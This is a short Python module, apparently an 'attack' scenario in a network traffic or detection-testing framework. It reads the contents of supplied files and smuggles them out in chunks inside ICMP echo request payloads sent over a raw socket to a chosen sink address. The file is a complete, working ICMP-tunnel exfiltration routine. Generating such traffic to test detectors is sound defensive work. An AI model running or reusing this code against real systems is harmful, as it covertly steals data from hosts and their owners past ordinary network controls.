# SPDX-License-Identifier: GPL-3.0-or-later
"""In the payload of echo requests, as if somebody was looking whether the other side is there."""
import random
import socket
import struct
import time

KIND = "attack"


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data[:len(data) // 2 * 2])) + (data[-1] << 8 if len(data) % 2 else 0)
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def echo(number, payload):
    head = struct.pack(">BBHHH", 8, 0, 0, 4242, number & 0xffff)
    return head[:2] + struct.pack(">H", checksum(head + payload)) + head[4:] + payload


def product(world):
    rng = random.Random(world["seed"])
    content = b"".join(open(path, "rb").read() for path in world["files"])
    size, address = rng.choice((56, 504, 1400)), rng.choice(world["sinks"])[0]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        for number, at in enumerate(range(0, len(content), size)):
            sock.sendto(echo(number, content[at:at + size]), (address, 0))
            time.sleep(0.0005)
